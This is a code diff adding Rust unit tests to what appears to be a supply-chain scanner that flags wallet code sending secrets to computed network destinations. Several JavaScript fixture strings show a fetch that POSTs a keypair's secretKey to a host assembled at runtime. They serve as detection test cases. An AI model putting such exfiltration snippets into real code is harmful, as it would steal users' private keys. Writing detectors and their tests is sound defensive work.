@@ -150,4 +150,31 @@ mod tests {
         assert!(find(&f, RULE.code).is_none(), "{f:?}");
         assert!(find(&f, "new-destination").is_some(), "{:?}", codes(&f));
     }
+
+    #[test]
+    fn a_name_reused_by_another_function_does_not_make_a_destination_computed() {
+        // Minified bundles reuse one-letter names: `C` is a built string at the top and
+        // the client's own endpoint in a function (firebase 13.2.0's installations client).
+        let new = format!(
+            "{WALLET}const C = `${{process.title}}:${{process.pid}}`;\nfunction endpoint() {{\n  return RPC + '/v1/tokens';\n}}\nasync function refresh(w) {{\n  const C = endpoint(), P = {{ Authorization: 'Bearer ' + w.refreshToken }};\n  return fetch(C, {{ method: 'POST', headers: P }});\n}}\n"
+        );
+        let f = diff_index(WALLET, &new);
+        assert!(find(&f, RULE.code).is_none(), "{:?}", codes(&f));
+    }
+
+    #[test]
+    fn a_computed_destination_cannot_be_laundered_by_redeclaring_its_name_elsewhere() {
+        let new = format!(
+            "{WALLET}function send(kp, h) {{\n  const u = 'https://' + h + '/k';\n  fetch(u, {{ method: 'POST', body: kp.secretKey }});\n}}\nfunction unused() {{\n  const u = endpoint();\n  return u;\n}}\n"
+        );
+        let f = diff_index(WALLET, &new);
+        let hit = find(&f, RULE.code).unwrap_or_else(|| panic!("{:?}", codes(&f)));
+        assert!(hit.message.contains("computed"), "{}", hit.message);
+        // Nor by a parameter of the same name in a function declared before it is used.
+        let new = format!(
+            "{WALLET}const u = ['https:', '', globalThis.h, 'k'].join('/') + Math.random();\nfunction noop(u) {{ return u; }}\nfunction send(kp) {{\n  fetch(u, {{ method: 'POST', body: kp.secretKey }});\n}}\n"
+        );
+        let f = diff_index(WALLET, &new);
+        assert!(find(&f, RULE.code).is_some(), "{:?}", codes(&f));
+    }
 }
